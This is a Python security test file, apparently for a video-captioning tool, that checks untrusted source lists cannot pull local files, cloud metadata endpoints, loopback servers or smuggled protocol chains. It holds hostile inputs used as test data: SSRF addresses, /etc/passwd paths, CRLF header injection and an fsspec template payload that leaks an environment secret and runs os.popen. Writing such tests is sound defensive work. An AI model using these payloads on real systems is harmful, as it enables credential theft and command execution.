"""What a stranger's list, row, tar or CSV names: nothing is asked for or read that was not allowed."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import tarfile
import tempfile
import threading
from pathlib import Path

import fsspec
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from framescribe.errors import ClipError, UsageError
from framescribe.pipeline.sources import expand_sources
from framescribe.types import Clip
from framescribe.video import web
from framescribe.video.source import open_source
from tests.attacks.server import Server, redirect, send

SECRET = b"hf_topsecret"
# What fsspec would make a request, a file or a command of: HOST is a server that notes what it is asked, FILE a file.
CHAINS = [
    "reference://x.mp4::HOST/leak.json",
    "reference://x.mp4",
    "simplecache::HOST/a.mp4",
    "filecache::HOST/a.mp4",
    "blockcache::HOST/a.mp4",
    "cached::HOST/a.mp4",
    "simplecache://x::HOST/a.mp4",
    "zip://a.mp4::HOST/a.zip",
    "zip://a.mp4::file://FILE",
    "tar://a.mp4::HOST/a.tar",
    "libarchive://a.mp4::HOST/a.zip",
    "dir::HOST/a",
    "dask://HOST/a.mp4",
    "jupyter://HOST/a.mp4",
    "jlab://HOST/a.mp4",
    "github://owner:repo@main/a.mp4",
    "git://FILE:a@main/a.mp4",
    "gist://1234/a.mp4",
    "sftp://user:pass@HOSTNAME/a.mp4",
    "ssh://user:pass@HOSTNAME/a.mp4",
    "ftp://HOSTNAME/a.mp4",
    "smb://HOSTNAME/share/a.mp4",
    "webhdfs://HOSTNAME/a.mp4",
    "dbfs://a.mp4",
    "lakefs://a/b",
    "generic://HOST/a.mp4",
    "async_wrapper://HOST/a.mp4",
    "data://video/mp4;base64,AAAA",
    "local://FILE",
    "s3://x::HOST/a.mp4",
    "memory://x::HOST/a.mp4",
    "simplecache::reference://x::HOST/leak.json",
    "file://FILE::x.mp4",
    "REFERENCE://x.mp4::HOST/leak.json",
    "reference://x.tar::HOST/x.tar::k.mp4",
    "simplecache::HOST/x.tar::k.mp4",
]


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "elsewhere" / "secret"
    path.parent.mkdir()
    path.write_bytes(SECRET)
    return path


def spelled(name: str, server: Server, secret: Path) -> str:
    return (
        name.replace("HOSTNAME", f"127.0.0.1:{server.port}")
        .replace("HOST", server.url)
        .replace("FILE", str(secret))
    )


def lists_of(name: str, folder: Path) -> list[Path]:
    """The name in a list of each sort, and as a row of the datasets library."""
    (folder / "l.txt").write_text(f"{name}\n")
    with (folder / "l.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["path"], [name]])
    (folder / "l.jsonl").write_text(
        json.dumps({"video": name}) + "\n" + json.dumps({"file": {"path": name}}) + "\n"
    )
    pq.write_table(pa.table({"video": pa.array([{"bytes": None, "path": name}])}), folder / "l.parquet")
    return [folder / f"l.{suffix}" for suffix in ("txt", "csv", "jsonl", "parquet")]


def read_all(clips: list[Clip]) -> list[bytes | str]:
    """The bytes of each clip, or why it has none."""
    found: list[bytes | str] = []
    for clip in clips:
        try:
            with open_source(clip) as file:
                found.append(file.read())
        except ClipError as error:
            found.append(str(error))
    return found


@pytest.mark.parametrize("name", CHAINS)
def test_chains_and_odd_protocols(name, server, secret, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    server.pages = {f"/{page}": SECRET for page in ("leak.json", "a.mp4", "a.zip", "a.tar", "a", "x.tar")}
    name = spelled(name, server, secret)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(UsageError):
        list(expand_sources([name]))
    assert isinstance(read_all([Clip(name)])[0], str)  # as a row, or from Python
    assert sorted(tmp_path.rglob("*")) == before
    for path in lists_of(name, tmp_path):
        clips = list(expand_sources([str(path)]))
        assert clips
        assert not [found for found in read_all(clips) if SECRET in os.fsencode(found)]
    assert server.requests == []


@pytest.mark.parametrize(
    "name", ["/etc/passwd", "FILE", "file://FILE", "FILE.tar::a.mp4", "memory://secret", "../../FILE"]
)
def test_a_list_from_elsewhere_names_no_file_of_this_machine(name, server, secret, tmp_path):
    name = name.replace("FILE", str(secret))
    with tarfile.open(f"{secret}.tar", "w") as archive:
        archive.add(secret, "a.mp4")
    fsspec.filesystem("memory").pipe("/secret", SECRET)
    for path in lists_of(name, tmp_path):
        server.pages[f"/lists/{path.name}"] = path.read_bytes()
        clips = list(expand_sources([f"{server.url}/lists/{path.name}"]))
        assert clips
        assert not [
            found
            for found in read_all(clips)
            if SECRET in os.fsencode(found) or b"root:" in os.fsencode(found)
        ]
    assert {path for path in server.paths if not path.startswith("/lists/l.")} <= {f"/lists/../../{secret}"}


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "localhost",
        "LOCALHOST.",
        "[::1]",
        "0.0.0.0",
        "127.1",
        "2130706433",
        "0x7f000001",
        "[::ffff:127.0.0.1]",
        "x.localhost",
    ],
)
def test_a_list_from_elsewhere_names_no_server_of_this_machine(host, tmp_path):
    from framescribe.video.address import check_listed

    with pytest.raises(UsageError, match="a list from elsewhere cannot name servers of this machine"):
        check_listed(f"http://{host}:8080/admin", "s3://bucket/list.txt")
    with pytest.raises(UsageError, match="a list from elsewhere cannot name servers of this machine"):
        check_listed(f"https://user@{host}/admin.tar::a.mp4", "https://example.com/list.txt")
    check_listed(f"http://{host}:8080/admin", "http://127.0.0.1/list.txt")  # which this machine serves
    check_listed(f"http://{host}:8080/admin", f"{tmp_path}/list.txt")


@pytest.mark.parametrize(
    "address",
    ["169.254.169.254", "169.254.170.2", "[fe80::1]", "[fd00:ec2::254]", "100.100.100.200", "2852039166",
     "0xA9FEA9FE", "[::ffff:169.254.169.254]"],
)  # fmt: skip
def test_where_clouds_keep_credentials_nothing_is_asked(address, monkeypatch):
    asked = []
    monkeypatch.setattr(socket, "create_connection", lambda place, *rest: asked.append(place) or _refuse())
    found = read_all([Clip(f"http://{address}/latest/meta-data/a.mp4")])
    assert "is a link-local address, from which nothing is read" in found[0]
    assert asked == []


@pytest.mark.parametrize("address", ["169.254.169.254", "[fd00:ec2::254]", "2852039166"])
def test_a_proxy_is_not_asked_for_such_an_address_either(address, server, monkeypatch):
    monkeypatch.setenv("http_proxy", server.url)
    assert "is a link-local address" in read_all([Clip(f"http://{address}/latest/a.mp4")])[0]
    assert server.requests == []
    server.pages["http://videos.example/a%2Fb.mp4"] = b"video"
    assert read_all([Clip("http://videos.example/a%2Fb.mp4")]) == [b"video"]


def _refuse() -> socket.socket:
    raise ConnectionRefusedError


def test_a_name_that_leads_to_such_an_address(monkeypatch):
    asked = []
    place = (socket.AF_INET, socket.SOCK_STREAM, 6, "", ("169.254.169.254", 80))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *arguments, **options: [place])
    monkeypatch.setattr(socket, "create_connection", lambda place, *rest: asked.append(place) or _refuse())
    assert "link-local" in read_all([Clip("http://innocent.example/a.mp4")])[0]
    assert asked == []


@pytest.mark.parametrize(
    "to",
    ["file:///etc/passwd", "file://FILE", "ftp://HOSTNAME/a", "data:video/mp4;base64,AAAA", "gopher://HOSTNAME/_x",
     "reference://x::HOST/leak.json", "http://169.254.169.254/latest", "//169.254.169.254/latest", "HOST/loop"],
)  # fmt: skip
@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_redirects_lead_to_web_servers_only(to, status, server, secret):
    server.pages = {
        "/a.mp4": redirect(spelled(to, server, secret), status),
        "/loop": redirect("/loop"),
        "/leak.json": b"x",
    }
    (found,) = read_all([Clip(f"{server.url}/a.mp4")])
    assert isinstance(found, str)
    assert "cannot be fetched" in found
    assert set(server.paths) <= {"/a.mp4", "/loop"}
    assert len(server.requests) < 30


def test_redirects_from_elsewhere_do_not_lead_here(server, monkeypatch):
    server.pages = {"/a.mp4": redirect(f"{server.url}/admin"), "/admin": SECRET}
    real = socket.getaddrinfo
    here = lambda host, *rest, **options: real("127.0.0.1" if "example" in host else host, *rest, **options)  # noqa: E731
    monkeypatch.setattr(socket, "getaddrinfo", here)
    (found,) = read_all([Clip(f"http://videos.example:{server.port}/a.mp4")])
    assert "which is this machine" in found
    assert server.paths == ["/a.mp4"]


def test_credentials_of_a_url_go_to_its_server_only(server):
    with tempfile.TemporaryDirectory():
        other = Server()
        server.pages = {"/a.mp4": redirect("/b.mp4"), "/b.mp4": b"video"}
        assert read_all([Clip(server.url.replace("//", "//user:p%40ss@") + "/a.mp4")]) == [b"video"]
        assert [headers.get("Authorization") for _, _, headers in server.requests] == [
            "Basic dXNlcjpwQHNz",
            None,
        ]
        assert other.requests == []


@pytest.mark.parametrize(
    "name", ["a\r\nX-Injected: 1.mp4", "a\nGET /other HTTP/1.1\n.mp4", "a\0.mp4", "a\x1b.mp4"]
)
def test_line_breaks_in_urls_send_nothing(name, server):
    assert "control characters" in read_all([Clip(f"{server.url}/{name}")])[0]
    assert server.requests == []


def test_further_protocols_are_allowed_by_the_environment_only(monkeypatch, tmp_path):
    class Odd(fsspec.get_filesystem_class("memory")):
        protocol = ("odd",)

    fsspec.register_implementation("odd", Odd, clobber=True)
    assert "nothing is read by odd://" in read_all([Clip("odd://a.mp4")])[0]
    monkeypatch.setenv("FRAMESCRIBE_PROTOCOLS", "sftp odd")
    assert (
        "FileNotFoundError" in read_all([Clip("odd://a.mp4")])[0]
        or "odd://a.mp4" in read_all([Clip("odd://a.mp4")])[0]
    )
    assert "chains of protocols" in read_all([Clip("odd://x::http://host/a.mp4")])[0]


def test_environment_variables_do_not_leave(server, monkeypatch):
    """The templates of fsspec's reference files could read them, and run commands."""
    monkeypatch.setenv("SECRET_TOKEN", SECRET.decode())
    mark = Path(tempfile.mkdtemp()) / "ran"
    leak = {
        "version": 1, "templates": {"f": "{{x}}"},
        "refs": {"x.mp4": [f"{server.url}/stolen?" + "{{f.__globals__[os].environ[SECRET_TOKEN]}}"]},
        "gen": [{"key": f"g{{{{cycler.__init__.__globals__.os.popen('id > {mark}').read()}}}}", "url": "u"}],
    }  # fmt: skip
    server.pages["/leak.json"] = json.dumps(leak).encode()
    name = f"reference://x.mp4::{server.url}/leak.json"
    assert isinstance(read_all([Clip(name)])[0], str)
    assert server.requests == []
    assert not mark.exists()
    # As a member of our own form it is a name within a tar, and nothing else.
    with tarfile.open(mark.parent / "x.tar", "w") as archive:
        info = tarfile.TarInfo(name)
        info.size = 4
        archive.addfile(info, io.BytesIO(b"here"))
    assert read_all([Clip(f"{mark.parent}/x.tar::{name}")]) == [b"here"]
    assert server.requests == []


def test_no_other_opener_is_ever_used(server):
    """A proxy of the environment is; files, FTP and data URLs have no handler."""
    before = threading.active_count()
    names = {type(handler).__name__ for handler in web._opener(None).handlers}
    assert not names & {"FileHandler", "FTPHandler", "DataHandler", "CacheFTPHandler"}
    server.pages["/a.mp4"] = lambda handler: send(handler, 200, b"video", {"Content-Encoding": "zstd"})
    assert "Content-Encoding zstd" in read_all([Clip(f"{server.url}/a.mp4")])[0]
    assert threading.active_count() < before + 50
